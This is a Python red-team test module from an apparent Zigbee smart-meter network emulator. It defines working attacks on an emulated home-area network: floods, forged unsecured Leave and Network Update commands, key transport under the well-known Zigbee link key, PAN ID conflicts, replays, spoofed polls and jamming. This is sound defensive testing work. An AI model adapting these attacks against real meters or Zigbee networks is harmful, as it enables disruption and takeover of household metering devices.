"""Attacks by somebody who has a radio and no key: IEEE 802.15.4 secures neither beacons nor commands in Zigbee."""

from __future__ import annotations

import asyncio

from hanbench.emulator.mac import frames as mac
from hanbench.emulator.mac.frames import MacCommand, MacFrame
from hanbench.emulator.radio import Jammer
from hanbench.emulator.radio.fcs import fcs
from hanbench.emulator.zigbee.aps import commands as aps_commands
from hanbench.emulator.zigbee.aps import frames as aps
from hanbench.emulator.zigbee.nwk import commands, frames
from hanbench.emulator.zigbee.security.ccm import cipher
from hanbench.emulator.zigbee.security.keys import WELL_KNOWN_LINK_KEY, KeyId, key_transport_key
from hanbench.emulator.zigbee.zdo import messages as zdp
from tests.redteam.attacker import BROADCAST, OWN_SHORT, Attacker
from tests.redteam.attacks import FLOOD, attack

RX_ON_ROUTER, SLEEPY = 0x8E, 0x80
"""Capability information (IEEE 802.15.4-2011, 5.3.1.2)."""


def association(a: Attacker, ieee: int, capability: int = SLEEPY) -> bytes:
    return a.command(bytes((MacCommand.ASSOCIATION_REQUEST, capability)), src=ieee, mode=mac.EXTENDED)


def rejoin(a: Attacker, ieee: int, short: int, capability: int, at: int | None = None) -> bytes:
    """An unsecured Rejoin Request to a parent: where none is given, to that of the gas meter."""
    payload = commands.RejoinRequest(capability=capability).encode()
    to = a.parent.short if at is None else at
    return a.data(a.npdu(payload, src=short, dst=to, kind=frames.COMMAND, ieee=ieee, secured=False), dst=to, src=short)


def poll(a: Attacker, short: int) -> bytes:
    return a.command(bytes((MacCommand.DATA_REQUEST,)), src=short)


# --- floods -----------------------------------------------------------------------------------------------------------


@attack
async def association_flood(a: Attacker) -> None:
    await a.flood(association(a, a.foreign_ieee()) for _ in range(FLOOD))


@attack
async def association_flood_while_open(a: Attacker) -> None:
    a.han.hub.permit_join(254)
    await a.flood(association(a, a.foreign_ieee()) for _ in range(FLOOD))


@attack
async def sender_flood(a: Attacker) -> None:
    await a.flood(a.data(b"\x08\x00", src=a.foreign_short(), ack=False) for _ in range(FLOOD))


@attack
async def unsecured_network_flood(a: Attacker) -> None:
    """Data that names ever new sources (ns-3's and others' stacks learned routes from such)."""
    await a.flood(
        a.data(a.npdu(a.apdu(bytes(4), 0), src=short, secured=False), src=short)
        for short in (a.foreign_short() for _ in range(FLOOD))
    )


@attack
async def poll_flood(a: Attacker) -> None:
    """Data Requests of children that nobody has: each is told to rejoin (R22, 3.6.10.4)."""
    await a.flood(poll(a, a.foreign_short()) for _ in range(FLOOD))


@attack
async def beacon_request_flood(a: Attacker) -> None:
    await a.flood(
        MacFrame(
            mac.COMMAND,
            a.next(),
            bytes((MacCommand.BEACON_REQUEST,)),
            dst_pan=BROADCAST,
            dst=BROADCAST,
            dst_mode=mac.SHORT,
        ).encode()
        for _ in range(FLOOD)
    )


@attack
async def unsecured_rejoin_flood(a: Attacker) -> None:
    for _ in range(FLOOD):
        await a.flood([rejoin(a, a.foreign_ieee(), a.foreign_short(), SLEEPY)])


@attack
async def orphan_flood(a: Attacker) -> None:
    """Orphan Notifications, also of the meters (IEEE 802.15.4-2011, 5.1.2.1.3)."""
    names = [a.gsme.ieee, a.esme.ieee, *(a.foreign_ieee() for _ in range(FLOOD))]
    await a.flood(
        MacFrame(
            mac.COMMAND,
            a.next(),
            bytes((MacCommand.ORPHAN_NOTIFICATION,)),
            dst_pan=BROADCAST,
            dst=BROADCAST,
            dst_mode=mac.SHORT,
            src_pan=BROADCAST,
            src=ieee,
            src_mode=mac.EXTENDED,
        ).encode()
        for ieee in names
    )


@attack
async def broken_key_flood(a: Attacker) -> None:
    """Frames in the gas meter's name that no key opens (Stelte and Rodosek 2013: they cost a receiver a decryption)."""

    def sealed() -> bytes:
        header = frames.header(frames.DATA, 0, a.gsme.short, a.next(), radius=30, secured=True)
        auxiliary = b"\x28" + a.counter(a.gsme.ieee).to_bytes(4, "little") + a.gsme.ieee.to_bytes(8, "little") + b"\x00"
        return a.data(header + auxiliary + a.random.randbytes(40), src=a.gsme.short)

    await a.flood(sealed() for _ in range(FLOOD))


# --- forgeries --------------------------------------------------------------------------------------------------------


@attack
async def rejoin_in_the_meters_name(a: Attacker) -> None:
    """Unsecured, with another receiver setting (Wang and Hao 2022, "Don't kick over the beehive")."""
    await a.every(20, lambda: [rejoin(a, a.gsme.ieee, a.gsme.short, RX_ON_ROUTER)])


@attack
async def rejoin_with_anothers_address(a: Attacker) -> None:
    await a.every(20, lambda: [rejoin(a, a.gsme.ieee, a.esme.short, SLEEPY), rejoin(a, a.esme.ieee, a.gsme.short, 0)])


@attack
async def association_in_the_meters_name(a: Attacker) -> None:
    """While the HAN is open, so that the hub forgets its counters; then old frames again."""

    def lies() -> list[bytes]:
        a.han.hub.permit_join(60)
        return [association(a, a.gsme.ieee, RX_ON_ROUTER), association(a, a.esme.ieee), *a.recorded[-40:]]

    await a.every(60, lies)


@attack
async def unsecured_leave(a: Attacker) -> None:
    leave = commands.Leave(request=True).encode()
    await a.every(
        30,
        lambda: [
            a.data(a.npdu(leave, src=0, dst=to, kind=frames.COMMAND, ieee=a.hub.ieee, secured=False), dst=to, src=0)
            for to in (a.esme.short, a.gsme.short, BROADCAST)
        ],
    )


@attack
async def unsecured_network_update(a: Attacker) -> None:
    update = commands.NetworkUpdate(extended_pan_id=a.extended_pan_id, update_id=7, pan_id=0x0666).encode()
    await a.every(
        30,
        lambda: [
            a.data(
                a.npdu(update, src=0, dst=BROADCAST, kind=frames.COMMAND, ieee=a.hub.ieee, secured=False),
                dst=BROADCAST,
                src=0,
            )
        ],
    )


@attack
async def unsecured_device_annce(a: Attacker) -> None:
    def lies() -> list[bytes]:
        lie = zdp.encode(1, zdp.DeviceAnnce(0x4242, a.gsme.ieee, 0x80))
        apdu = a.apdu(lie, zdp.DeviceAnnce.CLUSTER, profile=0, endpoint=0, delivery=aps.BROADCAST)
        return [a.data(a.npdu(apdu, src=0x4242, dst=0xFFFD, secured=False), dst=BROADCAST, src=0x4242)]

    await a.every(30, lies)


@attack
async def transport_key_under_the_well_known_key(a: Attacker) -> None:
    """A network key of the attacker's, under "ZigBeeAlliance09" (Zillner 2015, "ZigBee exploited")."""
    key = cipher(key_transport_key(WELL_KNOWN_LINK_KEY))

    def forged() -> list[bytes]:
        frames_ = []
        for place in (a.esme, a.gsme):
            command = aps_commands.TransportNetworkKey(bytes(16), 1, place.ieee, a.hub.ieee)
            header = aps.command_header(a.next(), secured=True)
            apdu = aps.secure(
                header, command.encode(), key, KeyId.KEY_TRANSPORT, a.counter(1), a.hub.ieee, extended_nonce=True
            )
            frames_.append(a.data(a.npdu(apdu, src=0, dst=place.short, secured=False), dst=place.short, src=0))
        return frames_

    await a.every(15, forged)


@attack
async def realignment(a: Attacker) -> None:
    """Coordinator Realignment to another channel, which no device has asked for."""
    content = b"\x08" + a.pan_id.to_bytes(2, "little") + b"\x00\x00\x1a" + a.gsme.short.to_bytes(2, "little")
    await a.every(20, lambda: [a.command(content, a.esme.short, src=0), of_the_parent(a, content)])


def of_the_parent(a: Attacker, content: bytes) -> bytes:
    """A MAC command to the gas meter in its parent's name."""
    return a.command(content, a.gsme.short, src=a.parent.short)


@attack
async def association_response(a: Attacker) -> None:
    """An answer that no device waits for, with another short address."""
    lie = b"\x02\x42\x42\x00"
    await a.every(20, lambda: [a.command(lie, a.esme.short, src=0), of_the_parent(a, lie)])


# --- PAN ID and parents -----------------------------------------------------------------------------------------------


@attack
async def pan_id_conflict(a: Attacker) -> None:
    """Beacons of another network with the HAN's PAN ID (KillerBee's zbpanidconflictflood)."""

    def beacons() -> list[bytes]:
        a.pan_id = a.han.hub.stack.nwk.network.pan_id
        return [a.beacon(0x0BAD_0BAD_0BAD_0BAD, src=OWN_SHORT)]

    await a.every(60, beacons)


@attack
async def lured_to_another_parent(a: Attacker) -> None:
    """Beacons of a better parent, which takes no child, after each Beacon Request (Zillner 2015; Akestoridis 2020)."""

    def promise(psdu: bytes) -> None:
        if psdu[0] & 7 == mac.COMMAND and psdu[7:8] == bytes((MacCommand.BEACON_REQUEST,)):
            a.pan_id = a.han.hub.stack.nwk.network.pan_id
            a.later(a.flood(a.beacon(a.extended_pan_id, src=OWN_SHORT, update_id=9) for _ in range(3)))

    a.ears.append(promise)
    await pan_id_conflict(a)


@attack
async def mac_pan_id_conflict(a: Attacker) -> None:
    """The MAC's own PAN ID Conflict Notification, which Zigbee does not use."""
    await a.every(20, lambda: [a.command(bytes((MacCommand.PAN_ID_CONFLICT,)), src=a.gsme.ieee, mode=mac.EXTENDED)])


# --- replays and broken frames ----------------------------------------------------------------------------------------


@attack
async def replay_of_everything(a: Attacker) -> None:
    """All that was on the air, once more."""
    await asyncio.sleep(5)
    while True:
        await a.flood(a.recorded[-150:])
        await asyncio.sleep(120)


@attack
async def replay_at_once(a: Attacker) -> None:
    """Each data frame again as soon as it has ended."""
    a.ears.append(lambda psdu: a.later(a.flood([psdu])) if psdu[0] & 7 == mac.DATA else None)
    await asyncio.Event().wait()


@attack
async def mutated_live_frames(a: Attacker) -> None:
    """Frames of others with one octet changed and a good FCS, as they pass."""

    def change(psdu: bytes) -> None:
        octets = bytearray(psdu[:-2])
        octets[int(a.random.random() * len(octets))] ^= 1 + int(a.random.random() * 255)
        if len(octets) >= 3:
            a.later(a.flood([bytes(octets) + fcs(bytes(octets))]))

    a.ears.append(change)
    await asyncio.Event().wait()


@attack
async def octets_of_every_length(a: Attacker) -> None:
    """3 to 127 octets that are a frame, or nearly."""
    for kind in (0x41, 0x01, 0x03, 0x00, 0x02):
        for length in range(3, 128):
            head = bytes((kind, 0x88, a.next())) + a.pan_id.to_bytes(2, "little") + bytes(2)
            octets = (head + a.random.randbytes(120))[: length - 2]
            a.burst((octets + fcs(octets))[:length])
            await asyncio.sleep(0.006)


# --- acknowledgements, polls, noise -----------------------------------------------------------------------------------


@attack
async def acknowledgements_in_the_meters_name(a: Attacker) -> None:
    """A radio with the meter's address: it acknowledges all that is sent to the meter (Xiao 2006)."""
    a.be(a.gsme.short)
    await a.every(60, lambda: [poll(a, a.gsme.short)])


@attack
async def polls_in_the_meters_name(a: Attacker) -> None:
    """Data Requests that fetch the meter's frames before it does (Cao 2016, "Ghost-in-the-Wireless"; R22, 3.6.10)."""
    a.be(a.gsme.short)
    await a.every(5, lambda: [poll(a, a.gsme.short)])


@attack
async def polls_without_end(a: Attacker) -> None:
    """The same a hundred times a second while the meter is awake."""
    a.be(a.gsme.short)

    def awake(psdu: bytes) -> None:
        if len(a._tasks) < 2:
            a.later(a.flood((poll(a, a.gsme.short) for _ in range(40)), pause=0.01))

    a.ears.append(lambda psdu: awake(psdu) if a.gsme.short.to_bytes(2, "little") in psdu[5:9] else None)
    await asyncio.Event().wait()


@attack
async def jamming(a: Attacker) -> None:
    jammer = Jammer(frozenset((a.channel,)), 20.0, None)
    a.han.air.add_jammer(jammer)
    a.burst(b"\x00" * 20)
    try:
        await asyncio.Event().wait()
    finally:
        a.han.air.remove_jammer(jammer)


@attack
async def occupied_channel(a: Attacker) -> None:
    """Long frames for nobody, without listening first: one second of four."""
    while True:
        for _ in range(200):
            a.burst(b"\x01\x88\x00\xee\xee\xee\xee\x01\x00\x01\x00" + bytes(114) + b"\x00\x00")
            await asyncio.sleep(0.005)
        await asyncio.sleep(600)
